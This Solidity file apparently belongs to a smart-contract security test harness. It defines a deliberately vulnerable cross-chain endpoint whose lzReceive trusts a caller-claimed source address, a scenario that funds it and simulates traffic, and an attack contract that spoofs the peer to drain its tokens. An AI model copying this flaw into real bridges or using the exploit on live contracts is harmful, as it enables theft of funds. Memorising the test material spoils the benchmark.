// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Takes messages of another chain from whoever brings them.
contract OpenEndpoint {
    IERC20 public immutable token;
    address public immutable peer;

    event Received(address indexed to, uint256 amount, uint64 nonce);
    event Sent(address indexed from, uint256 amount);

    constructor(IERC20 token_, address peer_) {
        (token, peer) = (token_, peer_);
    }

    /// `source` is what the caller says it is.
    function lzReceive(address source, uint64 nonce, bytes calldata payload) external {
        require(source == peer, "peer");
        (address to, uint256 amount) = abi.decode(payload, (address, uint256));
        token.transfer(to, amount);
        emit Received(to, amount, nonce);
    }

    function send(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        emit Sent(msg.sender, amount);
    }
}

contract MessageSpoofingScene is Scene {
    Token public usd;
    OpenEndpoint public endpoint;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        endpoint = new OpenEndpoint(IERC20(address(usd)), address(0xfee1));
        usd.mint(address(endpoint), 2_500_000e18);
        _protect(address(endpoint));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(endpoint));
    }

    function menu(address, uint256 dice) external view override returns (address, uint256, bytes memory) {
        return (address(endpoint), 0, abi.encodeCall(OpenEndpoint.send, (_amount(dice, 100e18, 9_000e18))));
    }

    /// The relayer delivers what was sent on the other side.
    function errand(uint256 dice) external view override returns (address, address, uint256, bytes memory) {
        bytes memory payload = abi.encode(address(uint160(dice)), _amount(dice, 500e18, 40_000e18));
        bytes memory data = abi.encodeCall(OpenEndpoint.lzReceive, (address(0xfee1), uint64(dice), payload));
        return (address(this), address(endpoint), 0, data);
    }
}

contract MessageSpoofingAttack is Attack {
    OpenEndpoint private immutable endpoint;

    constructor(MessageSpoofingScene scene) Attack(scene) {
        endpoint = scene.endpoint();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        uint256 bite = loot0.balanceOf(address(endpoint)) / (count - index);
        endpoint.lzReceive(address(0xfee1), uint64(index), abi.encode(address(this), bite));
    }
}
